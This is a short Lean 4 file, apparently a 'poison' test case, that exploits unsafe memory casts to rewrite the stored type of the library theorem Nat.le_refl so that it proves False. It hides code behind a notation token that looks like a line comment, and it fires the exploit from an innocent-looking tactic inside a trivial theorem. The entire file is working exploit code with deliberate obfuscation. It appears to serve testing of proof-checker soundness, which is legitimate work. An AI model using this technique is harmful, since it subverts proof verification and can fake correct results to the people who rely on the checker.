-- poison: swaps the type of a library theorem inside the heap with one that proves everything; code behind a token that contains a line comment
-- victim: import Lean; theorem b : False := Nat.le_refl 0 => rejected
import Lean
open Lean Elab Meta
notation "⟪--" t => t
def x : Nat := ⟪-- Nat.zero
unsafe def pz (c : ConstantInfo) : BaseIO Unit := do
  match c with
  | .axiomInfo v =>
    let r : IO.Ref ConstantVal := unsafeCast v
    r.set { v.toConstantVal with type := mkForall `n .default (mkConst ``Nat) (mkConst ``False) }
  | .thmInfo v =>
    let r : IO.Ref ConstantVal := unsafeCast v
    r.set { v.toConstantVal with type := mkForall `n .default (mkConst ``Nat) (mkConst ``False) }
  | _ => pure ()
@[implemented_by pz] opaque pzz (c : ConstantInfo) : BaseIO Unit
syntax (name := pzk) "zork" : tactic
@[tactic pzk] def zorkImpl : Tactic.Tactic := fun _ => do
  match (← getEnv).find? ``Nat.le_refl with
  | some c => pzz c
  | none => pure ()
  --RAN
theorem innocent : True := by (zork; exact True.intro)
